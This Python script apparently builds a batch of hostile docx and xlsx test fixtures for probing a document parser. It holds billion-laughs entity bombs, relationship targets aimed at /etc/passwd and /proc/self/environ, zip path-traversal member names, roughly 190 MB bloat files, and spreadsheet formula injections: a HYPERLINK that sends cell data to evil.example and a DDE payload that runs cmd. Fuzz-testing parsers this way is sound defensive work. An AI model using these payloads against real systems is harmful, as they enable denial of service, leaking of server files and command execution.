"""Batch 3: zip/Office/PDF/HTML files not in tests/hostile_new.py or hostile_fixtures.py.
usage: python g3_office.py OUTDIR"""
import sys, zipfile, zlib, io
from pathlib import Path
sys.path.insert(0, "/work/probe/prod/tests")
from hostile_fixtures import document_xml, write_docx, _CT_DOCX, _ROOT_RELS
from hostile_new import _xlsx, _sheet, _ROW2
from hostile_fixtures import _XLSX_HEADER_ROW, _cell
out = Path(sys.argv[1]); out.mkdir(parents=True, exist_ok=True)
T = "建议完善社区养老服务网络，加大财政支持力度，推动医养结合。"
CORE_NS = ('xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
           'xmlns:dc="http://purl.org/dc/elements/1.1/"')
def core(title_xml, doctype=""):
    return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<cp:coreProperties {CORE_NS}><dc:title>{title_xml}</dc:title></cp:coreProperties>'
CT_CORE = _CT_DOCX.replace("</Types>", '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
RELS_CORE = _ROOT_RELS.replace("</Relationships>", '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>')
LOL = "".join(['<!ENTITY e0 "哈哈哈哈哈哈哈哈哈哈">'] + [f'<!ENTITY e{i} "{("&e" + str(i-1) + ";") * 10}">' for i in range(1, 10)])
# 1 billion laughs in docProps/core.xml (the title), body fine
write_docx(out / "core_lol.docx", document_xml(["关于养老服务的提案", T]), root_rels=RELS_CORE, content_types=CT_CORE,
           extra={"docProps/core.xml": core("&e9;", f"<!DOCTYPE cp:coreProperties [{LOL}]>")})
# 2 billion laughs in document.xml (internal entities, no external)
write_docx(out / "doc_lol.docx", document_xml(["关于养老服务的提案", T, "&e9;"], doctype=f"<!DOCTYPE w:document [{LOL}]>"))
# 3 a 1 MB title with bidi/control chars in core.xml
write_docx(out / "core_bigtitle.docx", document_xml(["关于养老服务的提案", T]), root_rels=RELS_CORE, content_types=CT_CORE,
           extra={"docProps/core.xml": core("\u202e关于&#x1;养老" + "政" * 1_000_000)})
# 4 relationship cycle + target outside the package
DOC_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering" Target="../../../../../../etc/passwd"/>'
            '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header" Target="/proc/self/environ"/>'
            '</Relationships>')
write_docx(out / "rels_cycle.docx", document_xml(["关于养老服务的提案", T]), doc_rels=DOC_RELS)
# 5 path-traversal member names + absolute member names (never extracted, hopefully)
write_docx(out / "traversal.docx", document_xml(["关于养老服务的提案", T]),
           extra={"../../../../tmp/probe_evil.txt": b"pwned", "/tmp/probe_evil2.txt": b"pwned", "word/../../x.xml": b"<a/>"})
# 6 encrypted-flag member (document.xml stored with the encryption bit set)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as zf:
    zf.writestr("[Content_Types].xml", _CT_DOCX); zf.writestr("_rels/.rels", _ROOT_RELS)
    zf.writestr("word/document.xml", document_xml(["关于养老服务的提案", T]))
data = bytearray(buf.getvalue())
i = data.find(b"PK\x01\x02")
while i >= 0:  # set bit 0 of general purpose flags in every central directory entry and local header
    data[i + 8] |= 1; i = data.find(b"PK\x01\x02", i + 4)
i = data.find(b"PK\x03\x04")
while i >= 0:
    data[i + 6] |= 1; i = data.find(b"PK\x03\x04", i + 4)
(out / "encrypted.docx").write_bytes(bytes(data))
# 7 document.xml of ~190 MB (under the 200 MB zip limit) of empty paragraphs: tiny on disk, millions of lxml nodes
empty = "<w:p/>" * (190 * 1024 * 1024 // 6)
write_docx(out / "empty_paras_190mb.docx", document_xml(["关于养老服务的提案", T], extra_body=empty))
# 8 document.xml ~190 MB of tiny runs of text (text ≈ 6M chars > 2M limit; the reader builds it all first?)
runs = "<w:p><w:r><w:t>政</w:t></w:r><w:r><w:t>协</w:t></w:r></w:p>" * (190 * 1024 * 1024 // 52)
write_docx(out / "runs_190mb.docx", document_xml(["关于养老服务的提案", T], extra_body=runs))
# 9 xlsx with billion laughs in sharedStrings
sst = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{LOL}]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
       '<si><t>标题</t></si><si><t>正文</t></si><si><t>&e9;</t></si></sst>').encode()
rows = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" t="s"><v>2</v></c></row>')
_xlsx(out / "sst_lol.xlsx", {"Sheet1": _sheet(rows)}, shared=sst)
# 10 xlsx: sheet XML with a DOCTYPE entity bomb
_xlsx(out / "sheet_lol.xlsx", {"Sheet1": f'<?xml version="1.0"?><!DOCTYPE worksheet [{LOL}]>' + _sheet(_XLSX_HEADER_ROW + _ROW2 + '<row r="3"><c r="A3" t="inlineStr"><is><t>&e9;</t></is></c></row>')[len('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'):]})
# 11 xlsx: 190 MB sheet of empty rows <row r="N"/> numbered to the max (streamed?)
empty_rows = "".join(f'<row r="{i}"/>' for i in range(3, 3 + 6_000_000))
_xlsx(out / "emptyrows_xlsx.xlsx", {"Sheet1": _sheet(_XLSX_HEADER_ROW + _ROW2 + empty_rows)})
# 12 xlsx: cells with formula-injection payloads in every field (for later CSV exports)
inj = '<row r="3">' + _cell("A3", "=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点击查看\")") + _cell("B3", "+cmd|' /C calc'!A0 " + T) + '</row>'
_xlsx(out / "inject.xlsx", {"Sheet1": _sheet(_XLSX_HEADER_ROW + _ROW2 + inj)})
# 13 workbook whose sheet target is outside the package
x = _xlsx(out / "sheet_outside.xlsx", {"Sheet1": _sheet(_XLSX_HEADER_ROW + _ROW2)})
zin = zipfile.ZipFile(x); parts = {n: zin.read(n) for n in zin.namelist()}; zin.close()
parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"worksheets/sheet1.xml", b"../../../../../../etc/passwd")
with zipfile.ZipFile(x, "w") as zf:
    for n, d in parts.items(): zf.writestr(n, d)
print("ok", {p.name: p.stat().st_size for p in out.iterdir()})
